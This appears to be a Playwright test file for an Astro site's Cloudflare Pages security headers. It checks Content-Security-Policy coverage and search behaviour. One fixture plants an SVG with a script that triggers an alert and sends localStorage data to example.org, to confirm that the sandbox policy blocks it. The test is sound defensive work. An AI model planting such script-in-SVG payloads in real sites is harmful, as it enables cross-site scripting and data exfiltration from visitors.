// The built site served by Cloudflare's own runtime (`wrangler pages dev`, offline), which applies dist/_headers as
// Cloudflare Pages does: every file gets exactly one policy, a script planted in an SVG under /_astro/ does not
// run when the SVG is opened, and search still works under the policies the header sends.
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { PROJECT_ROOT as root } from '../../scripts/copy-project.mjs';

const PORT = 4335;
const origin = `http://127.0.0.1:${PORT}`;
let site = '';
let server: ChildProcess | undefined;

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  test.setTimeout(90_000);
  site = mkdtempSync(join(tmpdir(), 'ny-i-aalborg-served-'));
  cpSync(join(root, 'dist'), join(site, 'dist'), { recursive: true });
  // What the content rules now refuse, as if it had got into the build anyway.
  writeFileSync(
    join(site, 'dist/_astro/planted.svg'),
    `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain);fetch('https://example.org/?'+localStorage.length)</script><rect width="9" height="9"/></svg>`,
  );
  server = spawn(
    join(root, 'node_modules/.bin/wrangler'),
    ['pages', 'dev', 'dist', '--ip', '127.0.0.1', '--port', String(PORT), '--compatibility-date=2026-05-01'],
    {
      cwd: site,
      env: { ...process.env, WRANGLER_SEND_METRICS: 'false', CI: '1' },
      stdio: 'ignore',
    },
  );
  for (let tries = 0; ; tries++) {
    const ok = await fetch(`${origin}/da/`).then(
      (r) => r.ok,
      () => false,
    );
    if (ok) break;
    if (tries > 120) throw new Error('wrangler pages dev did not start');
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
});

test.afterAll(() => {
  server?.kill('SIGTERM');
  rmSync(site, { recursive: true, force: true });
});

/** Every file of the built site as the address a browser asks for. */
function siteAddresses(): string[] {
  return (readdirSync(join(site, 'dist'), { recursive: true, withFileTypes: true }) as import('node:fs').Dirent[])
    .filter((entry) => entry.isFile())
    .map((entry) => `/${join(entry.parentPath, entry.name).slice(join(site, 'dist').length + 1)}`)
    .filter((path) => !['/_headers', '/_redirects'].includes(path))
    .map((path) => path.replace(/index\.html$/, ''));
}

test('every file the site serves gets exactly one Content-Security-Policy', async ({ request }) => {
  // One request per file: the time grows with the site, so it scales with it.
  const paths = siteAddresses();
  test.setTimeout(30_000 + paths.length * 200);
  const missing: string[] = [];
  const doubled: string[] = [];
  for (const path of paths) {
    const response = await request.head(`${origin}${path}`, { maxRedirects: 0 });
    const policy = response.headers()['content-security-policy'];
    if (!policy) missing.push(`${path} (${response.status()})`);
    else if (policy.split('default-src').length > 2) doubled.push(path);
  }
  expect(missing).toEqual([]);
  expect(doubled).toEqual([]);
});

test('pages get the reader policy, files a sandbox, /admin/ no form submissions', async ({ request }) => {
  const policy = async (path: string) => (await request.get(`${origin}${path}`)).headers()['content-security-policy'];
  expect(await policy('/kl/mitid/')).toContain("script-src 'self'");
  expect(await policy('/plakat/mitid/')).toContain("frame-ancestors 'self'");
  expect(await policy('/_astro/planted.svg')).toMatch(/default-src 'none';.*sandbox/);
  expect(await policy('/og/da/mitid.jpg')).toMatch(/sandbox/);
  expect(await policy('/admin/')).toContain("form-action 'none'");
});

test('a script in an SVG under /_astro/ does not run when the SVG is opened', async ({ page }) => {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(origin)) foreign.push(r.url());
  });
  await page.goto(`${origin}/_astro/planted.svg`);
  await page.waitForTimeout(500);
  expect(page.url()).toBe(`${origin}/_astro/planted.svg`);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

test('search answers under the policies the server sends (Pagefind worker and WebAssembly)', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.goto(`${origin}/da/soeg/`);
  await page.locator('#search-page-field').fill('MitID');
  await expect(page.locator('.search-results__list li').first()).toBeVisible();
  expect(violations).toEqual([]);
});
